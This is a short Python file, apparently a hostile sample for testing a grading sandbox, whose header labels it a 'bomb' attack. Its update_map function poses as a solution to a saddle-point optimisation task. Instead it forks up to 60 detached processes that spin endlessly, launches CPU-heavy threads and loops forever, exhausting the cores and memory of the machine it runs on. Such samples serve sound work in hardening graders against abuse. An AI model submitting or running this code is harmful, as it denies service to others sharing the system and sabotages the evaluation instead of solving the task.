# attack: takes the cores from its neighbours by as many small programs and threads as it may have
# kind: bomb
# grade: 1.b
# outcome: timeout, memory
# module: saddle
# beside: solutions

import os
import sys
import threading

SPIN = [sys.executable, "-I", "-S", "-c", "while True: pass"]


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    for number in range(60):
        try:
            if os.fork() == 0:
                if number % 2:
                    os.setsid()
                os.execv(SPIN[0], SPIN)
        except OSError:
            break
    for _ in range(8):
        try:
            threading.Thread(target=pow, args=(7, 10**9, 11**9), daemon=True).start()
        except RuntimeError:
            break
    while True:
        pass
